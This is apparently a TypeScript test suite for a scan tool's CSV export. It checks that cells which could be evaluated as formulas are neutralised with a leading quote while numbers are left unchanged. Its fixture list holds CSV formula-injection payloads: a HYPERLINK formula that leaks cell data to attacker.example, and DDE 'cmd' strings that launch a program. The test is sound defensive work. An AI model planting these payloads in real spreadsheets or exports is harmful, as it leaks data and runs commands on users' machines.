/**
 * CSV exports against formula injection: a text cell that a spreadsheet would evaluate (=, +, -,
 * @, a leading tab or carriage return, after spaces too, and the full-width forms) is written with
 * a single quote in front, so a spreadsheet shows it as text; numbers stay numbers. Read back with
 * the tests' strict RFC 4180 reader (csv.ts), from results written to and read from a real store.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { csvCell, exportResults } from '../../main/scan/export.js';
import { ResultStore } from '../../main/store/index.js';
import { result } from '../store/results.js';
import { scratchDir } from '../support/tools.js';
import { csvRecords } from './csv.js';

const scratch = scratchDir('export-csv');
after(() => scratch.remove());

const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
];

describe('CSV cells', () => {
  test('text that a spreadsheet would evaluate gets a single quote in front; other text does not', () => {
    for (const text of HOSTILE) assert.ok(csvCell(text).replace(/^"/, '').startsWith(`'`), JSON.stringify(text));
    assert.equal(csvCell('view position LATERAL is a lateral view'), 'view position LATERAL is a lateral view');
    assert.equal(csvCell('1.2.840.10008.1.2'), '1.2.840.10008.1.2');
  });

  test('numbers and booleans are written as they are, a negative number included', () => {
    assert.equal(csvCell(-3.5), '-3.5');
    assert.equal(csvCell(-0), '0');
    assert.equal(csvCell(true), 'true');
    // The same characters as text are neutralised: only text cells are.
    assert.equal(csvCell('-3.5'), `'-3.5`);
  });

  test('an export of results whose reasons echo formulas reads back as text, numbers unchanged', async () => {
    const store = ResultStore.open(join(scratch.path, 'results.sqlite'));
    try {
      HOSTILE.forEach((reason, i) =>
        store.recordResult({
          result: result(`/data/${i}.dcm`, {
            status: 'rejected',
            reason,
            findings: [],
            timings: { decodeMs: -3.5, preprocessMs: 0, inferenceMs: 0, explainMs: 0 },
          }),
          file: { path: `/data/${i}.dcm`, sha256: String(i).repeat(64), size: 1 },
          format: 'dicom',
          priority: 'needs review',
          rulesFingerprint: 'rules',
          scanId: null,
        }),
      );
      const results = [...store.allResults()];
      const out = join(scratch.path, 'out.csv');
      assert.equal(await exportResults(results, out, 'csv'), HOSTILE.length);
      const rows = csvRecords(readFileSync(out, 'utf8'));
      assert.equal(rows.length, HOSTILE.length);
      for (const row of rows) {
        const stored = results.find((r) => r.file === row.file)!;
        assert.equal(row.reason, `'${stored.reason}`, 'the reason, as text');
        assert.equal(row.decode_ms, '-3.5', 'a number stays a number');
        assert.equal(row.status, 'rejected');
      }
    } finally {
      store.close();
    }
  });
});
